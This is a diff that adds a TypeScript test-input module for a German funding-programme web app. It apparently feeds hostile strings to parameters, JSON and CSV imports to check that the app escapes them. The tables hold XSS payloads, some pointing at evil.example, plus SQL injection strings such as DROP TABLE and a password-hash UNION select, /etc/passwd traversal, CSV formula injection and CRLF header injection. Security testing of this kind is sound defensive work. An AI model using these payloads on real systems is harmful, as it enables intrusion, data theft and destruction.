@@ -1,0 +1,297 @@
+// The hostile inputs, as readable tables. Every string is one input; the spec sends each to a
+// rotating set of parameters and fields (see targets.ts) and counts them.
+//
+// The XSS inputs carry the token 1337; those with characters HTML must escape (< > " &): if one appears
+// verbatim in a response, the page reflected it unescaped (React escapes all four in text and
+// attributes, and Next's inline RSC payload escapes < > & as \u003c … and " as \").
+
+const LONG = 10_000;
+
+export const XSS = [
+  `<script>alert(1337)</script>`,
+  `<img src=x onerror=alert(1337)>`,
+  `<svg onload=alert(1337)>`,
+  `<svg><script>alert(1337)</script></svg>`,
+  `"><script>alert(1337)</script>`,
+  `'><script>alert(1337)</script>`,
+  `" onmouseover="alert(1337)`,
+  `' onfocus='alert(1337)' autofocus='`,
+  `" autofocus onfocus="alert(1337)`,
+  `<iframe src="javascript:alert(1337)"></iframe>`,
+  `<a href="javascript:alert(1337)">x</a>`,
+  `<body onload=alert(1337)>`,
+  `<details open ontoggle=alert(1337)>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1337)>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1337)>">`,
+  `<style>@import 'http://evil.example/1337.css';</style>`,
+  `<link rel=stylesheet href=//evil.example/1337.css>`,
+  `<meta http-equiv="refresh" content="0;url=//evil.example/1337">`,
+  `<base href="//evil.example/1337/">`,
+  `<form action="//evil.example/1337"><button>x</button></form>`,
+  `<input autofocus onfocus=alert(1337)>`,
+  `<video><source onerror="alert(1337)">`,
+  `<object data="data:text/html,<script>alert(1337)</script>">`,
+  `<embed src="javascript:alert(1337)">`,
+  `</title><script>alert(1337)</script>`,
+  `</textarea><script>alert(1337)</script>`,
+  `</script><script>alert(1337)</script>`,
+  `<!--<img src="--><img src=x onerror=alert(1337)//">`,
+  `<![CDATA[<script>alert(1337)</script>]]>`,
+  `<scr<script>ipt>alert(1337)</scr</script>ipt>`,
+  `<SCRIPT SRC=//evil.example/1337.js></SCRIPT>`,
+  `<img src="x" onerror="&#97;lert(1337)">`,
+  `<img src=x:alert(1337) onerror=eval(src)>`,
+  `<div style="background:url(javascript:alert(1337))">`,
+  `{{constructor.constructor('alert(1337)')()}}<b>`,
+  `\${alert(1337)}<i>`,
+  `<p>1337 & <b>fett</b></p>`,
+  `"&lt;1337&gt;"<u>`,
+  `<a href="https://evil.example/1337" target="_blank">Förderung</a>`,
+  `<h1>1337 Überschrift</h1>`,
+] as const;
+
+export const SQL_AND_FILTER = [
+  `' OR '1'='1`,
+  `' OR 1=1 --`,
+  `1; DROP TABLE "User"; --`,
+  `'; SELECT pg_sleep(5); --`,
+  `" OR ""="`,
+  `1' UNION SELECT email, "passwordHash" FROM "User" --`,
+  `admin'--`,
+  `%' OR '%'='`,
+  `%`,
+  `_`,
+  `%%%%`,
+  `\\`,
+  `\\'`,
+  `'`,
+  `"`,
+  `;`,
+  `--`,
+  `/* */`,
+  `$1`,
+  `:*`,
+  `!`,
+  `& | !`,
+  `foo:* & !bar`,
+  `<->`,
+  `(((`,
+  `)))`,
+  `a:*:*:*`,
+  `"unclosed`,
+  `-"" OR`,
+  `*`,
+  `?`,
+  `[a-z]`,
+  `.*`,
+  `(a+)+$`,
+  `{"$gt": ""}`,
+  `NULL`,
+  `undefined`,
+  `__proto__`,
+  `constructor`,
+  `../../../../etc/passwd`,
+  `..%2F..%2Fetc%2Fpasswd`,
+  `file:///etc/passwd`,
+  `=cmd|' /C calc'!A0`,
+  `@SUM(1+1)`,
+] as const;
+
+export const LONG_STRINGS = [
+  "a".repeat(LONG),
+  "ä".repeat(LONG),
+  "€".repeat(LONG),
+  "😀".repeat(LONG / 2),
+  "digital ".repeat(LONG / 8),
+  "<b>".repeat(LONG / 3),
+  "%".repeat(LONG),
+  "\u0301".repeat(LONG),
+] as const;
+
+export const UNICODE = [
+  "\u0000",
+  "a\u0000b",
+  "\u0000<script>",
+  "\u202Egnudreröf",
+  "\u202Bعربي\u202C",
+  "\u200F\u200E",
+  "\u2066isolate\u2069",
+  "\u200B\u200C\u200D\uFEFF",
+  "Fördеrprogramm", // Cyrillic е
+  "ЅСΗULЕ", // Cyrillic and Greek look-alikes
+  "ｄｉｇｉｔａｌ", // full-width
+  "ﬁnanzierung", // ligature
+  "Digital\u0308",
+  "İstanbul",
+  "ß",
+  "ẞ",
+  "\uD800",
+  "\uDFFF",
+  "\uFFFD",
+  "\uFFFF",
+  "\u0007\u0008\u001B[31m",
+  "\r\nSet-Cookie: x=1",
+  "\t\v\f",
+  "\u2028\u2029",
+  "Ⅻ",
+  "𝔡𝔦𝔤𝔦𝔱𝔞𝔩",
+  "👨‍👩‍👧‍👦",
+  "🏳️‍🌈",
+  "日本語のテキスト",
+  "עברית",
+  "   ",
+  "",
+] as const;
+
+export const PAGE_NUMBERS = [
+  "0",
+  "-1",
+  "-999999999",
+  "1.5",
+  "1e3",
+  "1e308",
+  "99999999999999999999999999",
+  "9007199254740993",
+  "NaN",
+  "Infinity",
+  "-Infinity",
+  "0x10",
+  "0b11",
+  "1,5",
+  " 2 ",
+  "+3",
+  "2abc",
+  "٣", // Arabic-Indic three
+  "３", // full-width three
+  "[]",
+  "{}",
+  "true",
+  "null",
+  "501",
+  "2147483648",
+] as const;
+
+export const UNKNOWN_FACET_VALUES = [
+  "gibt-es-nicht",
+  "ZUSCHUSS",
+  "zuschuss ",
+  "zuschuß",
+  "zuschuss,darlehen",
+  "zuschuss|darlehen",
+  "zuschuss;darlehen",
+  "zuschuss darlehen",
+  "-",
+  "0",
+  "offen%00",
+  "stadt-trier\u0000",
+  "a".repeat(300),
+  "../foerderprogramme",
+  "status:offen",
+  "thema[0]",
+  "🙂",
+  "hasOwnProperty",
+  "toString",
+  "valueOf",
+] as const;
+
+// Query strings with repeated, array-like and malformed parameters, appended as written.
+export const PARAM_SHAPES = [
+  "{p}=a&{p}=b&{p}=c",
+  "{p}[]=a&{p}[]=b",
+  "{p}[0]=a&{p}[1]=b",
+  "{p}[x]=a",
+  "{p}.x=a",
+  "{p}",
+  "{p}=",
+  "{p}==",
+  "={p}",
+  "&&&{p}=a&&&",
+  "{P}=a",
+  "{p}%00=a",
+  "{p}=a;{p}=b",
+  Array.from({ length: 200 }, (_, i) => `{p}=v${i}`).join("&"),
+  Array.from({ length: 200 }, (_, i) => `x${i}=1`).join("&"),
+] as const;
+
+// Raw, deliberately broken percent-encoding: put into URLs exactly as written.
+export const BROKEN_ENCODING = [
+  "%",
+  "%%",
+  "%2",
+  "%G1",
+  "%zz",
+  "%E0%A4%A",
+  "%C3%28",
+  "%A0%A1",
+  "%F0%28%8C%BC",
+  "%ED%A0%80",
+  "%C0%AF",
+  "%FF%FE",
+  "%00",
+  "%0d%0aSet-Cookie:%20x=1",
+  "%u0041",
+  "%25%",
+  "a%",
+  "%E2%80%AE",
+  "%EF%BB%BF",
+  "%%32%65",
+] as const;
+
+export const JSON_BODIES: { name: string; body: string }[] = [
+  { name: "empty", body: "" },
+  { name: "not JSON", body: "das ist kein JSON" },
+  { name: "truncated", body: `[{"title": "Halb` },
+  { name: "null", body: "null" },
+  { name: "number", body: "1337" },
+  { name: "string", body: `"<script>alert(1337)</script>"` },
+  { name: "object instead of array", body: `{"title": "x"}` },
+  { name: "array of numbers", body: "[1, 2, 3]" },
+  { name: "array of nulls", body: "[null, null]" },
+  { name: "nested arrays", body: "[[[[[[]]]]]]" },
+  { name: "deep nesting", body: `${"[".repeat(5000)}${"]".repeat(5000)}` },
+  { name: "title as number", body: `[{"title": 42, "slug": 43}]` },
+  { name: "title as object", body: `[{"title": {"$ne": null}, "slug": ["a"]}]` },
+  { name: "fundingTypes as string", body: `[{"title": "x", "fundingTypes": "zuschuss"}]` },
+  { name: "fundingTypes as objects", body: `[{"title": "x", "fundingTypes": [{"a": 1}]}]` },
+  { name: "prototype pollution", body: `[{"__proto__": {"admin": true}, "constructor": {"prototype": {"x": 1}}, "title": "x"}]` },
+  { name: "duplicate keys", body: `[{"title": "a", "title": "b"}]` },
+  { name: "huge number", body: `[{"title": "x", "maxAmount": 1e400}]` },
+  { name: "negative amount", body: `[{"title": "x", "maxAmount": -5}]` },
+  { name: "boolean fields", body: `[{"title": true, "summary": false}]` },
+  { name: "NUL in strings", body: `[{"title": "a\\u0000b", "slug": "a\\u0000"}]` },
+  { name: "lone surrogate", body: `[{"title": "\\ud800"}]` },
+  { name: "BOM and garbage", body: "\uFEFF\u0000\u0001[" },
+  { name: "10,000 fields", body: `[{${Array.from({ length: 10_000 }, (_, i) => `"f${i}": ${i}`).join(",")}}]` },
+  { name: "XSS in every field", body: `[{"title": "<img src=x onerror=alert(1337)>", "summary": "<script>alert(1337)</script>", "slug": "\\"><svg onload=alert(1337)>"}]` },
+];
+
+// CSV files for the import: broken structure and hostile cells.
+export const CSV_BODIES: { name: string; body: string }[] = [
+  { name: "empty", body: "" },
+  { name: "header only", body: "title;slug\n" },
+  { name: "no header", body: "a;b;c\n1;2;3\n" },
+  { name: "unclosed quote", body: `title;slug\n"unclosed;x\n` },
+  { name: "binary", body: "\u0000\u0001\u0002\u00ff\u00fe" },
+  { name: "10,000 columns", body: `${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(";")}\n` },
+  { name: "XSS cells", body: `Titel;Kurzbeschreibung\n"<img src=x onerror=alert(1337)>";"<script>alert(1337)</script>"\n` },
+  { name: "formula cells", body: `Titel;Kurzbeschreibung\n=HYPERLINK("http://evil.example/1337");@SUM(1+1)\n` },
+  { name: "mixed separators", body: "Titel,Kurzbeschreibung;Frist\ta\n1,2;3\t4\n" },
+  { name: "CR only", body: "Titel;Kurzbeschreibung\rX;Y\r" },
+];
+
+// Only inputs with a character that needs escaping can show a missing escape; a bare ' cannot break
+// out of React's double-quoted attributes and is legitimately unescaped inside the RSC script.
+export const MARKED: readonly string[] = XSS.filter((value) => /[<>"&]/.test(value));
+
+/** Every string input, with its table's name, in a stable order. */
+export const STRING_INPUTS: { table: string; value: string }[] = [
+  ...XSS.map((value) => ({ table: "xss", value })),
+  ...SQL_AND_FILTER.map((value) => ({ table: "sql/filter", value })),
+  ...LONG_STRINGS.map((value) => ({ table: "long", value })),
+  ...UNICODE.map((value) => ({ table: "unicode", value })),
+  ...PAGE_NUMBERS.map((value) => ({ table: "number", value })),
+  ...UNKNOWN_FACET_VALUES.map((value) => ({ table: "facet", value })),
+];
+
+export const INPUT_COUNT =
+  STRING_INPUTS.length + PARAM_SHAPES.length + BROKEN_ENCODING.length + JSON_BODIES.length + CSV_BODIES.length;
